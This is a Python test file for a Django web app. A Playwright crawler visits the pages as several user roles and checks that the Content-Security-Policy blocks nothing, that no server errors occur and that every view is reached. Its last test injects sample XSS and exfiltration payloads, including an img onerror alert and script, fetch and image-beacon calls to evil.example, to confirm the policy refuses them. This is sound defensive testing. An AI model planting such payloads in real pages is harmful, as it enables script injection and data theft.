"""Every page that can be reached by links and forms, as several roles: the policy refuses nothing, no script fails."""

import re
from collections import deque
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from urllib.parse import urldefrag, urlsplit

import pytest
from django.urls import Resolver404, resolve
from playwright.sync_api import Error, Page, Response

from people.models import User
from tests import factories
from tests.architecture.access_rows import ROWS
from tests.browser.conftest import Visitor
from tests.browser.places import city

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Every kind of page is opened with a few of its objects, not with all; once for each set of parameters.
PER_KIND = 2
# Ends the session under the crawler's feet; a picture is no page.
NOT_FOLLOWED = re.compile(r"/sign-out/|/sessions/|/static/")
# What would close other pages to the crawler is looked at, not sent: archived, moved away, one's own role ended.
NOT_SENT = re.compile(r"/(archive|reopen|move|undo|deactivate|end)/")
# Runs in each page before its own code; the binding survives the page that calls it.
LISTEN = """
document.addEventListener("securitypolicyviolation", (event) => portalRefused(
  `${event.violatedDirective} ${event.blockedURI} ${event.sourceFile || ""}:${event.lineNumber}`), true);
"""
# What a reader of the page could set off, short of leaving it.
FRAGMENTS = "[hx-get]:not([hx-get='']), [hx-post]"
# As htmx itself would ask, whatever event it waits for.
SET_OFF = """
(one) => {
  const method = one.hasAttribute("hx-get") ? "get" : "post";
  return htmx.ajax(method, one.getAttribute(`hx-${method}`), { source: one }).catch(() => {});
}
"""
THAT_FORM = "(action) => [...document.querySelectorAll('main form')].find((form) => form.action === action)"


def kind_of(url: str) -> str:
    """Two addresses of one kind differ in codes, numbers and months only; parameters count by name."""
    parts = urlsplit(url)
    path = re.sub(r"/(?=[^/]*[A-Z0-9])[^/]+", "/*", parts.path)
    return f"{path}?{'&'.join(sorted({pair.split('=')[0] for pair in parts.query.split('&')}))}"


@dataclass
class Crawler:
    """Follows the links of one visitor and, when it `acts`, sends their forms; `seen` lists addresses by kind."""

    one: Visitor
    acts: bool = True
    refused: list[str] = field(default_factory=list)
    broken: list[str] = field(default_factory=list)
    seen: dict[str, list[str]] = field(default_factory=dict)
    forms: set[str] = field(default_factory=set)
    fragments: int = 0
    views: set[str] = field(default_factory=set)

    def __post_init__(self) -> None:
        page = self.one.page
        page.context.expose_function("portalRefused", lambda what: self.refused.append(f"{page.url}: {what}"))
        page.context.add_init_script(LISTEN)
        page.on("response", self._answered)
        page.on("dialog", lambda dialog: dialog.accept())

    def _answered(self, response: Response) -> None:
        if response.url.startswith(self.one.base) and response.status < 400:
            with suppress(Resolver404):
                self.views.add(resolve(urlsplit(response.url).path).view_name)
        if response.status >= 500:
            self.broken.append(f"{response.status} {response.request.method} {response.url}")
        if response.request.resource_type == "document" and response.status != 204:
            policy = response.headers.get("content-security-policy", "")
            if response.status < 300 and "default-src 'none'" not in policy:
                self.broken.append(f"no policy: {response.url}")

    def crawl(self, start: str = "/") -> "Crawler":
        waiting = deque([self.one.base + start])
        while waiting:
            url = waiting.popleft()
            if not self._wanted(url):
                continue
            page = self.one.page
            if not self._opened(page, url):
                continue
            self._open_everything(page)
            waiting.extend(self._links(page))
            if self.acts:
                self._set_off(page, url)
                self._send(page, url)
        return self

    @staticmethod
    def _opened(page: Page, url: str) -> bool:
        """False for what is saved instead of shown."""
        try:
            page.goto(url)
        except Error as error:
            if "Download is starting" not in error.message:
                raise
            return False
        return True

    def _wanted(self, url: str) -> bool:
        if not url.startswith(f"{self.one.base}/") or NOT_FOLLOWED.search(url):
            return False
        same = self.seen.setdefault(kind_of(url), [])
        if url in same or len(same) >= (1 if "?" in url else PER_KIND):
            return False
        same.append(url)
        return True

    @staticmethod
    def _links(page: Page) -> list[str]:
        found = page.eval_on_selector_all("a[href]", "all => all.map((a) => a.href)")
        return [urldefrag(url).url for url in found]

    @staticmethod
    def _open_everything(page: Page) -> None:
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")

    def _set_off(self, page: Page, url: str) -> None:
        """Ask for each fragment that the page can load into itself."""
        for number in range(min(page.locator(FRAGMENTS).count(), 6)):
            element = page.locator(FRAGMENTS).nth(number)
            if element.count() == 0:
                break
            kind = f"{kind_of(url)} {element.get_attribute('hx-get') or element.get_attribute('hx-post')}"
            if kind_of(kind) in self.forms:
                continue
            self.forms.add(kind_of(kind))
            element.evaluate(SET_OFF)
            self.fragments += 1
        if page.url != url:
            page.goto(url)

    def _send(self, page: Page, url: str) -> None:
        """Send each kind of form as it stands: what it answers, also to nonsense, is a page like any other."""
        found = page.eval_on_selector_all("main form", "all => all.map((form) => [form.action, form.method])")
        for action, method in found:
            kind = f"{method} {kind_of(action)}"
            # A form of a dialog closes it: nothing is sent.
            if method == "dialog" or kind in self.forms or self._is_left_out(action):
                continue
            self.forms.add(kind)
            # What was sent before may have changed the page.
            if not page.evaluate(THAT_FORM, action):
                continue
            with page.expect_navigation(wait_until="load", timeout=20_000):
                page.evaluate(f"(action) => ({THAT_FORM})(action).submit()", action)
            page.goto(url)

    @staticmethod
    def _is_left_out(action: str) -> bool:
        return bool(NOT_FOLLOWED.search(action) or NOT_SENT.search(action))

    def kinds(self) -> set[str]:
        return {kind.split("?")[0] for kind in self.seen}

    def problems(self) -> list[str]:
        return [*self.refused, *self.broken, *self.one.problems]


@pytest.fixture
def people() -> dict[str, User]:
    """Several roles in one small city."""
    root = city()
    # Whoever may do everything reaches every page; each of the others sees them with less on them.
    director = factories.user("pmo_director", full_name="Hélène Marchand")
    factories.grant(director, "administrator")
    factories.user("viewer", root.scope, full_name="Vera")
    return {
        "pmo_director": director,
        "project_manager": factories.user("project_manager", root.projects.get(code="BRIDGE").scope),
        "executive": factories.user("executive", root.scope, language="fr"),
        "viewer": factories.user("viewer", root.scope),
        "administrator": factories.user("administrator", language="fr"),
    }


# Pages that a person who is signed in does not come to by links and forms alone, in the state in which the crawl finds
# things: the journeys of tests/browser and tests/oidc open them in the same browser, where a report against the policy
# fails the test just as well. A new page that is neither crawled nor named here fails.
NOT_CRAWLED = frozenset(
    [
        "projects:baseline-proposal",
        "projects:decide-baseline",
        "projects:withdraw-baseline",
        "account_inactive",
        "account_login",
        "account_logout",
        "account_reauthenticate",
        "account_reset_password",
        "account_reset_password_done",
        "account_reset_password_from_key",
        "archive:begin",
        "archive:cancel",
        "archive:download",
        "archive:progress",
        "archive:remove",
        "archive:retry",
        "integrations:import-choose",
        "integrations:import-discard",
        "integrations:import-retry",
        "integrations:import-sheet",
        "integrations:import-undo",
        "integrations:mapping-discard",
        "integrations:actuals-columns",
        "integrations:actuals-confirm",
        "integrations:actuals-detail",
        "integrations:actuals-discard",
        "integrations:actuals-undo",
        "integrations:mapping-draft",
        "integrations:mapping-layout",
        "integrations:mapping-options",
        "integrations:mapping-preview",
        "integrations:mapping-use",
        "livez",
        "mfa_authenticate",
        "mfa_deactivate_totp",
        "mfa_generate_recovery_codes",
        "mfa_index",
        "mfa_reauthenticate",
        "mfa_reauthenticate_webauthn",
        "mfa_view_recovery_codes",
        "operations:failed-jobs",
        "operations:metrics",
        "operations:try-all-again",
        "operations:try-one-again",
        "people:accept-invitation",
        "people:act-for",
        "people:end-deputyship",
        "people:end-other-sessions",
        "people:end-session",
        "people:invitation-withdraw",
        "people:invite-again",
        "people:language",
        "people:open-id-callback",
        "people:open-id-signed-out",
        "people:open-id-start",
        "people:organisation-logo",
        "people:remove-key",
        "people:rename-key",
        "people:second-factor-remove",
        "people:setup",
        "people:setup-done",
        "people:setup-step",
        "people:sign-in",
        "people:sign-out",
        "people:stop-acting",
        "people:test-mail",
        "people:user-deactivate",
        "people:user-reactivate",
        "people:view-delete",
        "people:view-edit",
        "portfolio:attribute-archive",
        "portfolio:attribute-edit",
        "portfolio:attribute-shift",
        "portfolio:open-next",
        "portfolio:programme-reopen",
        "portfolio:rate-edit",
        "portfolio:reopen",
        "projects:add-objective",
        "projects:benefit-move",
        "projects:benefit-remove",
        "projects:contingency-edit",
        "projects:contingency-remove",
        "projects:discard-draft",
        "projects:discard-programme-draft",
        "projects:edit-cell",
        "projects:edit-dependency",
        "projects:edit-projects",
        "projects:hand-over",
        "projects:move-objective",
        "projects:money-cells",
        "projects:money-entry",
        "projects:money-entry-remove",
        "projects:plan-add",
        "projects:plan-milestone",
        "projects:plan-milestone-move",
        "projects:plan-milestone-remove",
        "projects:plan-package-move",
        "projects:plan-package-restore",
        "projects:plan-undo",
        "projects:programme-month",
        "projects:remove-dependency",
        "projects:reopen-project",
        "readyz",
        "reporting:period-publish",
        "reporting:report-download",
        "reporting:report-history",
        "reporting:report-retry",
    ]
)
# What each role reaches at least: a crawl that stops early must not pass.
REACHED = {
    "pmo_director": {
        "/",
        "/portfolios/*/",
        "/projects/*/",
        "/imports/new/",
        "/projects/*/manager/",
        "/reports/",
        "/people/",
        "/people/*/",
        "/people/invite/",
        "/imports/*/",
    },
    "project_manager": {"/", "/my-projects/", "/projects/*/", "/projects/*/status/"},
    "executive": {"/", "/portfolios/*/", "/projects/*/", "/reports/"},
    "viewer": {"/", "/projects/*/"},
    "administrator": {"/"},
}


@pytest.mark.slow
@pytest.mark.parametrize("role", REACHED)
def test_the_policy_refuses_nothing_on_any_page(
    visitor: Callable[..., Visitor], people: dict[str, User], role: str
) -> None:
    crawler = Crawler(visitor().sign_in(people[role])).crawl()
    assert not crawler.problems(), "\n".join(crawler.problems())
    assert REACHED[role] <= crawler.kinds(), sorted(crawler.kinds())
    if role == "pmo_director":
        missed = {row.url for row in ROWS} - crawler.views - NOT_CRAWLED
        assert not missed, "\n".join(sorted(missed))
        assert len(crawler.forms) >= 12, sorted(crawler.forms)
        assert crawler.fragments >= 4


@pytest.mark.slow
def test_the_policy_refuses_nothing_in_the_other_language(
    visitor: Callable[..., Visitor], people: dict[str, User]
) -> None:
    one = visitor(theme="dark").sign_in(people["pmo_director"])
    one.page.locator("button[name=language][value=fr]").click()
    crawler = Crawler(one, acts=False).crawl()
    assert one.page.locator("html").get_attribute("lang") == "fr"
    assert not crawler.problems(), "\n".join(crawler.problems())
    assert REACHED["pmo_director"] <= crawler.kinds(), sorted(crawler.kinds())


def test_signed_out_pages_too(visitor: Callable[..., Visitor]) -> None:
    crawler = Crawler(visitor()).crawl("/sign-in/")
    assert not crawler.problems(), "\n".join(crawler.problems())
    assert "/sign-in/" in crawler.kinds()


@pytest.mark.parametrize(
    "code",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
        "document.body.setAttribute('style', 'color:red')",
        "document.head.appendChild(document.createElement('style')).textContent = 'body{}'",
        "document.head.appendChild(document.createElement('script')).textContent = '1'",
        "document.head.appendChild(document.createElement('script')).src = 'https://evil.example/x.js'",
        "document.body.appendChild(document.createElement('iframe')).src = 'https://evil.example/'",
        "fetch('https://evil.example/').catch(() => {})",
        "new Image().src = 'https://evil.example/?stolen'",
        "setTimeout('1')",
    ],
)
def test_the_crawler_would_hear_of_it(visitor: Callable[..., Visitor], code: str) -> None:
    """What an injection would try is refused, and the crawl would have told."""
    one = visitor()
    crawler = Crawler(one)
    one.open("/sign-in/")
    one.page.evaluate(f"() => {{ {code} }}")
    one.page.wait_for_timeout(200)
    assert crawler.refused
    one.problems.clear()
